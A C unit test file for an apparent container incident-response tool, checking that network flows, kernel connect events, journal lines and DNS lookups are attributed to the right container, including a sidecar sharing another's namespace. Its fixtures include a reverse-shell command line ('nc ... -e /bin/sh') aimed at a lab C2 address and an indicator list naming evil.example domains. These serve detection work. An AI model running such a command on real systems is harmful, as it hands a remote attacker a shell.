/* test_attrib.c: the one join (attrib.h) over hand-made sockets, conntrack entries, kernel events
 * and journal lines of both formats (an older watcher's, attributed by address, and the new one's
 * with "by", "process" and "netns_owner", exec and DNS lines): a container:X sidecar's flows are
 * its own and X is only named as the namespace's owner; names resolve through DNS lines; broken
 * lines are counted and skipped; argv with escapes stays valid JSON. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <dirent.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "analyses/attrib.h"
#include "journal/jdns.h"
#include "journal/jflows.h"
#include "journal/journal.h"

#define NS 1000000000ull
#define XID "7cf28b6db4f20e008b45ba8141885f7fe083c5083c676557174eb4a362a0d339"
#define SID "6b8fc28f08236d22142428e159ef722d07be689130f28ff68d227a78835d5a28"

static struct flow_addr A(const char *s) {
	struct flow_addr a;
	if (!flow_addr_parse(s, &a))
		fail_msg("not an address: %s", s);
	return a;
}

static struct flow
tcp(const char *src, uint16_t sport, const char *dst, uint16_t dport, const char *state)
{
	struct flow f = {.proto = IPPROTO_TCP};
	f.orig = (struct flow_tuple){.src = A(src), .dst = A(dst), .sport = sport, .dport = dport};
	snprintf(f.state, sizeof(f.state), "%s", state);
	return f;
}

/* A conntrack entry masqueraded to 10.66.0.1. */
static struct flow ct(const char *src, uint16_t sport, const char *dst, uint16_t dport,
                      const char *state, uint32_t id)
{
	struct flow f = tcp(src, sport, dst, dport, state);
	f.reply = (struct flow_tuple){
	    .src = A(dst), .dst = A("10.66.0.1"), .sport = dport, .dport = sport};
	f.id = id;
	return f;
}

/* kj-x on 172.18.0.4, kj-side in its namespace (--network container:kj-x), and web. */
static struct host *lab(void)
{
	struct host *h = xcalloc(1, sizeof(*h));
	h->c = xcalloc(3, sizeof(*h->c));
	h->n = 3;
	const char *names[] = {"kj-x", "kj-side", "web"}, *ids[] = {XID, SID, "cccc"};
	for (size_t i = 0; i < 3; i++) {
		struct container *c = &h->c[i];
		c->name = xstrdup(names[i]);
		c->id = xstrdup(ids[i]);
		c->state = xstrdup("running");
		c->running = true;
		c->pid = 1000 + (int)i;
		c->eps = xcalloc(1, sizeof(*c->eps));
		c->eps[0].ipv4 = xstrdup(i == 2 ? "172.18.0.9" : "172.18.0.4");
		c->n_eps = 1;
	}
	h->c[1].mode = NETMODE_CONTAINER;
	h->c[1].mode_target = xstrdup(XID);
	h->c[1].mode_target_name = xstrdup("kj-x");
	h->c[1].eps_shared = true;
	return h;
}

static struct proc_info *proc(int pid, const char *comm, struct container *c)
{
	struct proc_info *p = xcalloc(1, sizeof(*p));
	p->pid = pid;
	p->comm = xstrdup(comm);
	p->exe = xstrdup("/bin/busybox");
	p->uid = 0;
	p->c = c;
	return p;
}

/* The sidecar's reverse shell, open, seen by its socket and by conntrack. */
static struct sockets *shell_socket(struct host *h)
{
	struct sockets *s = xcalloc(1, sizeof(*s));
	s->v = xcalloc(1, sizeof(*s->v));
	s->procs = xcalloc(1, sizeof(*s->procs));
	s->procs[s->n_procs++] = proc(4242, "sh", &h->c[1]);
	s->v[0].s.f = tcp("172.18.0.4", 40000, "10.66.0.2", 80, "ESTABLISHED");
	s->v[0].c = &h->c[1];
	s->v[0].proc = s->procs[0];
	s->v[0].fd = 3;
	s->n = 1;
	return s;
}

static const struct aflow *flow_of(const struct attrib *a, uint16_t sport)
{
	for (size_t i = 0; i < a->n; i++)
		if (a->v[i].f.orig.sport == sport)
			return &a->v[i];
	fail_msg("no flow from port %u", sport);
	return NULL;
}

static void test_sidecar_live(void **state)
{
	(void)state;
	struct host *h = lab();
	struct sockets *s = shell_socket(h);
	struct flow cts[3] = {
	    ct("172.18.0.4", 40000, "10.66.0.2", 80, "ESTABLISHED", 7),
	    /* an earlier connection of the shell, closed: no socket, no process */
	    ct("172.18.0.4", 39999, "10.66.0.2", 80, "TIME_WAIT", 6),
	    /* web's own flow to another peer */
	    ct("172.18.0.9", 41000, "192.0.2.1", 443, "ESTABLISHED", 8)};
	struct attrib_in in = {.h = h, .socks = s, .ct = cts, .n_ct = 3};
	struct attrib *a = attrib_join(&in);
	assert_int_equal(a->n, 3);
	const struct aflow *open = flow_of(a, 40000);
	assert_true(open->sources == ((1u << FLOW_SRC_SOCKET) | (1u << FLOW_SRC_CONNTRACK)));
	assert_ptr_equal(open->end[0].c, &h->c[1]);
	assert_int_equal(open->end[0].by, ATTR_BY_PROCESS);
	assert_ptr_equal(open->end[0].netns_owner, &h->c[0]);
	assert_int_equal(open->end[0].proc->pid, 4242);
	assert_int_equal(open->f.id, 7);
	assert_true(flow_addr_eq(&open->f.reply.dst, &(struct flow_addr){0}) == false);
	assert_null(open->end[1].c);
	/* the closed one: by address it would be kj-x's; its only talker to that peer is the
	 * sidecar's process */
	const struct aflow *closed = flow_of(a, 39999);
	assert_ptr_equal(closed->end[0].c, &h->c[1]);
	assert_int_equal(closed->end[0].by, ATTR_BY_ADDRESS);
	assert_ptr_equal(closed->end[0].netns_owner, &h->c[0]);
	assert_non_null(strstr(closed->end[0].note, "shared"));
	const struct aflow *web = flow_of(a, 41000);
	assert_ptr_equal(web->end[0].c, &h->c[2]);
	assert_null(web->end[0].netns_owner);
	attrib_free(a);

	/* without the live socket, nothing says whose the flows are: kj-x's, said to be shared */
	in.socks = NULL;
	a = attrib_join(&in);
	closed = flow_of(a, 39999);
	assert_ptr_equal(closed->end[0].c, &h->c[0]);
	assert_non_null(strstr(closed->end[0].note, "shared with 'kj-side'"));
	attrib_free(a);
	sockets_free(s);
	host_free(h);
}

static void test_sockets_alone(void **state)
{
	(void)state;
	struct host *h = lab();
	struct sockets *s = shell_socket(h);
	/* dockerd's DNS listener in kj-x's namespace, found while reading the sidecar: no process
	 * of a member holds it, so it is the namespace owner's */
	s->v = xrealloc(s->v, 2 * sizeof(*s->v));
	s->procs = xrealloc(s->procs, 2 * sizeof(*s->procs));
	s->procs[s->n_procs++] = proc(77, "dockerd", NULL);
	memset(&s->v[1], 0, sizeof(s->v[1]));
	s->v[1].s.f = tcp("127.0.0.11", 45343, "0.0.0.0", 0, "LISTEN");
	s->v[1].c = &h->c[1];
	s->v[1].proc = s->procs[1];
	s->n = 2;
	struct attrib_in in = {.h = h, .socks = s};
	struct attrib *a = attrib_join(&in);
	assert_int_equal(a->n, 2);
	assert_true(a->v[0].sock_only && a->v[1].sock_only);
	assert_ptr_equal(a->v[0].end[0].c, &h->c[1]);
	assert_int_equal(a->v[0].end[0].by, ATTR_BY_PROCESS);
	assert_ptr_equal(a->v[1].end[0].c, &h->c[0]);
	assert_int_equal(a->v[1].end[0].by, ATTR_BY_NETNS);
	assert_string_equal(a->v[1].end[0].proc->comm, "dockerd");
	/* a live process's argv as /proc gives it: bytes that are not UTF-8 stay valid JSON */
	struct proc_info *p = s->procs[0];
	p->argv = xcalloc(3, sizeof(*p->argv));
	p->argv[0] = xstrdup("sh");
	p->argv[1] = xstrdup("\xff\xfe\x1b[2J");
	p->argc = 2;
	json_t *pj = proc_info_to_json(p);
	char *txt = json_dumps(pj, JSON_COMPACT);
	assert_non_null(txt);
	json_t *back = json_loads(txt, 0, NULL);
	assert_non_null(back);
	assert_int_equal(json_array_size(json_object_get(back, "argv")), 2);
	json_decref(back);
	free(txt);
	json_decref(pj);
	attrib_free(a);
	sockets_free(s);
	host_free(h);
}

static void test_kernel_event(void **state)
{
	(void)state;
	struct host *h = lab();
	/* conntrack alone would say kj-x; the kernel's connect event names the sidecar's nc */
	struct flow cts[1] = {ct("172.18.0.4", 40500, "10.66.0.2", 80, "TIME_WAIT", 9)};
	const char *argv[] = {"nc", "10.66.0.2", "80", "-e", "/bin/sh"};
	struct attr_sockev ev = {.ts_ns = 5 * NS,
	                         .proto = IPPROTO_TCP,
	                         .t = cts[0].orig,
	                         .container_id = SID,
	                         .pid = 555,
	                         .ppid = 1,
	                         .comm = "nc",
	                         .exe = "/bin/busybox",
	                         .argv = argv,
	                         .argc = 5};
	struct attrib_in in = {.h = h, .ct = cts, .n_ct = 1, .kev = &ev, .n_kev = 1};
	struct attrib *a = attrib_join(&in);
	assert_int_equal(a->n, 1);
	assert_ptr_equal(a->v[0].end[0].c, &h->c[1]);
	assert_int_equal(a->v[0].end[0].by, ATTR_BY_PROCESS);
	assert_ptr_equal(a->v[0].end[0].netns_owner, &h->c[0]);
	assert_string_equal(a->v[0].end[0].proc->cmdline, "nc 10.66.0.2 80 -e /bin/sh");
	attrib_free(a);
	host_free(h);
}

/* ---------------------------------------------------------------- journal lines */

static char *tmpdir(void)
{
	char tmpl[] = "/tmp/cirt-test-attrib-XXXXXX";
	char *d = mkdtemp(tmpl);
	assert_non_null(d);
	return xstrdup(d);
}

static void rmrf(const char *dir)
{
	DIR *d = opendir(dir);
	if (d) {
		struct dirent *de;
		while ((de = readdir(d)))
			if (de->d_name[0] != '.') {
				char *p = xasprintf("%s/%s", dir, de->d_name);
				unlink(p);
				free(p);
			}
		closedir(d);
	}
	rmdir(dir);
}

/* A journal holding these lines, as cirt watch would write them ("@T" is a time). */
static char *journal_of(const char *const *lines, size_t n, uint64_t t)
{
	char *dir = tmpdir();
	struct journal_writer *w = NULL;
	struct cirt_err e = {0};
	assert_int_equal(journal_open(dir, 1 << 20, &w, &e), 0);
	char ts[40];
	journal_time_str(t, ts, sizeof(ts));
	for (size_t i = 0; i < n; i++) {
		char *l = xasprintf("{\"t\":\"%s\",%s", ts, lines[i]);
		assert_int_equal(journal_append(w, l, strlen(l), &e), 0);
		free(l);
	}
	assert_int_equal(journal_close(w, &e), 0);
	return dir;
}

#define REF(id, name) "{\"id\":\"" id "\",\"name\":\"" name "\",\"image\":\"cirt-lab/busybox:1\"}"
#define FLOW(sport, id)                                                                            \
	"\"flow\":{\"proto\":\"tcp\",\"state\":\"ESTABLISHED\",\"original\":{\"src\":\"172.18.0."  \
	"4\","                                                                                     \
	"\"sport\":" sport                                                                         \
	",\"dst\":\"10.66.0.2\",\"dport\":80},\"reply\":{\"src\":\"10.66.0.2\","                   \
	"\"sport\":80,\"dst\":\"10.66.0.1\",\"dport\":" sport "},\"conntrack_id\":" id "}}"

static void test_journal_lines(void **state)
{
	(void)state;
	static const char *const lines[] = {
	    /* an older watcher's line: by address, the namespace owner named */
	    "\"type\":\"flow\",\"event\":\"new\",\"src_container\":" REF(XID, "kj-x") "," FLOW(
	        "40000", "7"),
	    /* the new format: the sidecar by its process, kj-x the namespace's owner; the process
	     * without its parents (the exec lines give them) and argv with an escape sequence and a
	     * character outside ASCII */
	    "\"type\":\"flow\",\"event\":\"new\",\"src_container\":" REF(
	        SID,
	        "kj-side") ",\"by\":\"process\",\"process\":{\"pid\":600,\"comm\":\"nc\",\"exe\":"
	                   "\"/bin/busybox\",\"argv\":[\"nc\",\"\\u001b[31mred\",\"x\\u00ff\"],"
	                   "\"ppid\":599},\"netns_owner\":{\"id\":\"" XID
	                   "\",\"name\":\"kj-x\"}," FLOW("40001", "8"),
	    "\"type\":\"exec\",\"container\":" REF(
	        SID,
	        "kj-side") ",\"pid\":599,\"ppid\":1,\"uid\":0,\"comm\":\"sh\",\"exe\":\"/bin/"
	                   "busybox\",\"argv\":[\"sh\",\"-c\",\"loop\"],\"argv_truncated\":false,"
	                   "\"parents\":[],\"netns\":4026532000,\"via\":\"bpf\"}",
	    "\"type\":\"exec\",\"container\":" REF(
	        SID,
	        "kj-side") ",\"pid\":1,\"ppid\":0,\"uid\":0,\"comm\":\"init\",\"exe\":\"/bin/"
	                   "busybox\",\"argv\":[\"init\"],\"netns\":4026532000,\"via\":\"bpf\"}",
	    /* a container gone since: named from the line's copy */
	    "\"type\":\"flow\",\"event\":\"new\",\"src_container\":" REF(
	        "dddd", "gone-one") ",\"by\":\"netns\"," FLOW("40002", "9"),
	    /* lines of a type nobody knows, and broken ones */
	    "\"type\":\"martian\",\"flow\":{}}",
	    "\"type\":\"flow\",\"event\":\"new\",\"flow\":{\"original\":",
	    "\"type\":\"flow\",\"event\":\"new\",\"flow\":{\"proto\":\"tcp\"}}",
	};
	uint64_t t = (journal_now_ns() - 60 * NS) / 1000000 * 1000000;
	char *dir = journal_of(lines, ARRAY_SIZE(lines), t);
	struct jflows jf = {0};
	struct jexecs jx = {0};
	struct cirt_err e = {0};
	assert_int_equal(jflows_read(dir, 0, 0, NULL, 0, NULL, NULL, 100, &jf, &e), 0);
	assert_int_equal(jf.n, 3);
	assert_string_equal(jf.v[1].by, "process");
	assert_int_equal(jf.v[1].proc.pid, 600);
	assert_int_equal(jf.v[1].proc.argc, 3);
	assert_string_equal(jf.v[1].netns_owner.name, "kj-x");
	assert_string_equal(jf.v[0].by, "");
	const char *ids[] = {SID};
	assert_int_equal(jexecs_read(dir, 0, 0, ids, 1, 100, &jx, &e), 0);
	assert_int_equal(jx.n, 2);

	/* the shell's connection 40000 is still open: the live socket's process beats the old
	 * line's address */
	struct host *h = lab();
	struct sockets *s = shell_socket(h);
	struct flow cts[1] = {ct("172.18.0.4", 40000, "10.66.0.2", 80, "ESTABLISHED", 7)};
	struct attrib_in in = {.h = h,
	                       .socks = s,
	                       .ct = cts,
	                       .n_ct = 1,
	                       .jf = jf.v,
	                       .n_jf = jf.n,
	                       .jx = jx.v,
	                       .n_jx = jx.n};
	struct attrib *a = attrib_join(&in);
	assert_int_equal(a->n, 3);
	const struct aflow *f0 = flow_of(a, 40000);
	assert_int_equal(f0->sources, (1u << FLOW_SRC_SOCKET) | (1u << FLOW_SRC_CONNTRACK) |
	                                  (1u << FLOW_SRC_JOURNAL));
	assert_ptr_equal(f0->end[0].c, &h->c[1]);
	assert_int_equal(f0->end[0].by, ATTR_BY_PROCESS);
	assert_non_null(strstr(f0->end[0].note, "cirt watch recorded it as 'kj-x''s (by address)"));
	/* the new line: taken as given, the parent chain from the exec lines */
	const struct aflow *f1 = flow_of(a, 40001);
	assert_ptr_equal(f1->end[0].c, &h->c[1]);
	assert_int_equal(f1->end[0].by, ATTR_BY_PROCESS);
	assert_ptr_equal(f1->end[0].netns_owner, &h->c[0]);
	const struct proc_info *p = f1->end[0].proc;
	assert_int_equal(p->pid, 600);
	assert_int_equal(p->ppid, 599);
	assert_int_equal(p->n_parents, 1);
	assert_int_equal(p->parents[0].pid, 599);
	assert_string_equal(p->parents[0].comm, "sh");
	/* argv with an escape sequence: valid JSON, the escape escaped */
	json_t *pj = proc_info_to_json(p);
	char *txt = json_dumps(pj, JSON_COMPACT);
	assert_non_null(txt);
	assert_null(strchr(txt, '\x1b'));
	json_t *back = json_loads(txt, 0, NULL);
	assert_non_null(back);
	assert_int_equal(json_array_size(json_object_get(back, "argv")), 3);
	json_decref(back);
	free(txt);
	json_decref(pj);
	/* the removed container: from the line's copy */
	const struct aflow *f2 = flow_of(a, 40002);
	assert_string_equal(f2->end[0].c->name, "gone-one");
	assert_string_equal(f2->end[0].c->state, "gone");
	assert_int_equal(f2->end[0].by, ATTR_BY_NETNS);
	assert_non_null(strstr(f2->end[0].note, "not running now"));
	attrib_free(a);

	/* the same lines with the shell's socket gone: the old line names kj-x by address, and
	 * the sidecar's process is known for the other flow to the same peer */
	in.socks = NULL;
	in.ct = NULL;
	in.n_ct = 0;
	a = attrib_join(&in);
	f0 = flow_of(a, 40000);
	assert_int_equal(f0->sources, 1u << FLOW_SRC_JOURNAL);
	assert_ptr_equal(f0->end[0].c, &h->c[1]);
	assert_ptr_equal(f0->end[0].netns_owner, &h->c[0]);
	assert_int_equal(f0->end[0].by, ATTR_BY_ADDRESS);
	attrib_free(a);
	sockets_free(s);
	host_free(h);
	jflows_clear(&jf);
	jexecs_clear(&jx);
	rmrf(dir);
	free(dir);
}

static void test_dns_lines(void **state)
{
	(void)state;
	static const char *const lines[] = {
	    "\"type\":\"dns\",\"container\":" REF(
	        XID,
	        "kj-x") ",\"by\":\"netns\",\"netns\":4026532000,\"client\":\"172.18.0.4:40000\","
	                "\"server\":\"127.0.0.11:53\",\"forwarded\":false,\"qname\":\"www.Cirt-"
	                "Lab.test.\",\"qtype\":\"A\",\"rcode\":\"NOERROR\",\"answers\":[{\"name\":"
	                "\"www.cirt-lab.test\",\"type\":\"CNAME\",\"ttl\":60,\"data\":\"c2.cirt-"
	                "lab.test\"},{\"name\":\"c2.cirt-lab.test\",\"type\":\"A\",\"ttl\":300,"
	                "\"data\":\"10.66.0.2\"},{\"name\":\"c2.cirt-lab.test\",\"type\":\"AAAA\","
	                "\"ttl\":30,\"data\":\"fd00::2\"}]}",
	    "\"type\":\"dns\",\"container\":null,\"netns\":1,\"client\":\"10.0.0.1:5353\","
	    "\"server\":"
	    "\"10.66.0.2:53\",\"forwarded\":false,\"qname\":\"harmless.example\",\"qtype\":\"A\","
	    "\"rcode\":\"NXDOMAIN\",\"answers\":[]}",
	    "\"type\":\"dns\",\"container\":" REF(
	        SID,
	        "kj-side") ",\"by\":\"process\",\"process\":{\"pid\":700,\"comm\":\"nslookup\"},"
	                   "\"qname\":\"deep.sub.evil.example\",\"qtype\":\"A\",\"rcode\":"
	                   "\"NOERROR\",\"answers\":[{\"name\":\"deep.sub.evil.example\","
	                   "\"type\":\"A\",\"ttl\":5,\"data\":\"203.0.113.7\"}]}",
	    "\"type\":\"dns\",\"qname\":\"evil.example\",\"answers\":\"not an array\"}",
	    "\"type\":\"dns\",\"qname\":",
	    "\"type\":\"dns\",\"answers\":[]}",
	};
	uint64_t t = (journal_now_ns() - 60 * NS) / 1000000 * 1000000;
	char *dir = journal_of(lines, ARRAY_SIZE(lines), t);
	char list[] = "c2.cirt-lab.test\n*.evil.example # the C2's domain\n10.66.0.0/24\n";
	struct ioc_list *ioc = NULL;
	struct cirt_err e = {0};
	assert_int_equal(ioc_parse("test", list, strlen(list), &ioc, &e), 0);
	struct jlookups lk = {0};
	assert_int_equal(jdns_read(dir, 0, 0, ioc, 100, &lk, &e), 0);
	assert_int_equal(lk.dns_lines, 6);
	assert_int_equal(lk.bad_lines, 2); /* broken JSON, no name */
	/* evil.example itself is not below *.evil.example: not kept */
	assert_int_equal(lk.n, 2);
	const struct jlookup *l = &lk.v[0];
	assert_int_equal(l->n_chain, 2);
	assert_string_equal(l->chain[1], "c2.cirt-lab.test");
	assert_int_equal(l->matched, 1);
	assert_string_equal(l->ioc->text, "c2.cirt-lab.test");
	assert_int_equal(l->n_addrs, 2);
	assert_int_equal(l->ttl, 30);
	assert_string_equal(lk.v[1].ioc->text, "*.evil.example");
	assert_int_equal(lk.v[1].proc.pid, 700);

	struct host *h = lab();
	struct attrib_in in = {.h = h, .dns = lk.v, .n_dns = lk.n};
	struct attrib *a = attrib_join(&in);
	assert_int_equal(a->n_lookups, 2);
	assert_ptr_equal(a->lookups[0].c, &h->c[0]);
	assert_int_equal(a->lookups[0].by, ATTR_BY_NETNS);
	assert_ptr_equal(a->lookups[1].c, &h->c[1]);
	assert_int_equal(a->lookups[1].by, ATTR_BY_PROCESS);
	assert_ptr_equal(a->lookups[1].netns_owner, &h->c[0]);
	struct flow_addr c2 = A("10.66.0.2"), other = A("10.66.0.3"), v6 = A("fd00::2");
	assert_ptr_equal(attrib_resolved(a, &c2, NULL), &a->lookups[0]);
	assert_ptr_equal(attrib_resolved(a, &v6, &h->c[2]), &a->lookups[0]);
	assert_null(attrib_resolved(a, &other, NULL));
	attrib_free(a);
	host_free(h);
	jlookups_clear(&lk);
	/* no names in the list: every DNS line is kept */
	assert_int_equal(jdns_read(dir, 0, 0, NULL, 100, &lk, &e), 0);
	assert_int_equal(lk.n, 4);
	jlookups_clear(&lk);
	ioc_free(ioc);
	rmrf(dir);
	free(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_sidecar_live), cmocka_unit_test(test_sockets_alone),
	    cmocka_unit_test(test_kernel_event), cmocka_unit_test(test_journal_lines),
	    cmocka_unit_test(test_dns_lines),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
